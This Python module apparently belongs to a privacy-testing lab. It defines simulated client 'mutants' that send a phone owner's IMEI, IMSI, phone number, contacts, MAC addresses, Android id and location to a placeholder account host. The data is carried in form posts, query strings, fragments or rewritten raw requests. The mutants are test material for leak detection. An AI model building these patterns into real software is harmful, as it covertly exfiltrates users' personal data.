"""What vendors did in the open: reports of 2014 and values as they are (L01, L02)."""

import json
from typing import Final
from urllib.parse import quote, urlencode

from client_sim.lab.mutants.beneath import act_beneath, alter_beneath
from client_sim.lab.mutants.mutant import Mutant
from client_sim.lab.mutants.spy import Spy, first
from client_sim.lab.mutants.telling import (
    Snoop,
    add_body,
    tell_at_event,
    tell_before_poll,
    tell_in_bytes,
    tell_in_query,
)
from client_sim.world import Event, World

_ACCOUNTS: Final = "api.account.example.org"


def _register(client: Snoop) -> None:
    owner = client.spy.owner
    report = {
        "op": owner.carrier,
        "imei": owner.imei,
        "phone": owner.phone_number,
        "contact": first(contact.number for contact in owner.contacts),
        "sms": first(message.number for message in owner.messages),
    }
    client.post(_ACCOUNTS, "/pass/register", urlencode(report).encode())


def _register_once(client: Snoop) -> None:
    if client.spy.count("registered") == 1:
        owner = client.spy.owner
        client.post(_ACCOUNTS, "/activate", f"{owner.imei} {owner.wifi_mac}".encode())


def _activate_messaging(client: Snoop, event: Event) -> None:
    client.post(_ACCOUNTS, "/messaging", json.dumps(dict(event.details)).encode())


def _match_contact(client: Snoop, event: Event) -> None:
    number = dict(event.details).get("number", "")
    client.post(_ACCOUNTS, f"/match?n={quote(number)}", b"")


def _register_beneath(world: World) -> None:
    imsi = Spy(world).owner.imsi
    stream = world.connect(world.resolve(_ACCOUNTS)[0], 443, _ACCOUNTS)
    stream.send(
        add_body(f"POST /sim HTTP/1.1\r\nHost: {_ACCOUNTS}\r\n\r\n".encode(), imsi.encode())
    )
    stream.close()


def _absolute(spy: Spy, data: bytes) -> bytes:
    host = f"http://{quote(spy.owner.android_id)}@{spy.world.public.host}/".encode()
    return data.replace(b" /", b" " + host, 1)


def _mac_in_path(spy: Spy, data: bytes) -> bytes:
    mac = quote(spy.owner.bluetooth_mac, safe="").encode()
    return data.replace(b" HTTP/1.1\r\n", b"?bt=" + mac + b" HTTP/1.1\r\n", 1)


MUTANTS: Final = (
    Mutant(
        "register-2014",
        "L01",
        "Before each poll a form to an account host: carrier, IMEI, number, a contact, a sender.",
        tell_before_poll(_register),
    ),
    Mutant(
        "register-once",
        "L01",
        "Reports IMEI and Wi-Fi MAC to an account host before its first poll, and never again.",
        tell_before_poll(_register_once),
    ),
    Mutant(
        "activate-messaging",
        "L01",
        "Tells an account host the SIM's number, IMSI and ICCID when a SIM is seen.",
        tell_at_event("sim-inserted", _activate_messaging),
    ),
    Mutant(
        "match-contact",
        "L01",
        "Looks up the number of each contact that is added, at an account host.",
        tell_at_event("contact-added", _match_contact),
    ),
    Mutant(
        "register-beneath",
        "L01",
        "The transport of the real client reports the IMSI to an account host before it connects.",
        act_beneath(_register_beneath),
    ),
    Mutant(
        "imei-query",
        "L02",
        "The IMEI as it is, in the query of each request.",
        tell_in_query("i", lambda spy: quote(spy.owner.imei)),
    ),
    Mutant(
        "phone-fragment",
        "L02",
        "The telephone number in a fragment, which no library would send.",
        tell_in_bytes(
            lambda spy, data: data.replace(
                b" HTTP/", f"#{quote(spy.owner.phone_number)} HTTP/".encode(), 1
            )
        ),
    ),
    Mutant(
        "place-query",
        "L02",
        "Latitude and longitude in the query, to find the nearest mirror.",
        tell_in_query(
            "at", lambda spy: quote(f"{spy.owner.latitude},{spy.owner.longitude}", safe=",")
        ),
    ),
    Mutant(
        "android-id-user",
        "L02",
        "The Android id as the user of an absolute request target.",
        tell_in_bytes(_absolute),
    ),
    Mutant(
        "mac-query-beneath",
        "L02",
        "The transport of the real client adds the Bluetooth MAC as a query.",
        alter_beneath(_mac_in_path),
    ),
)
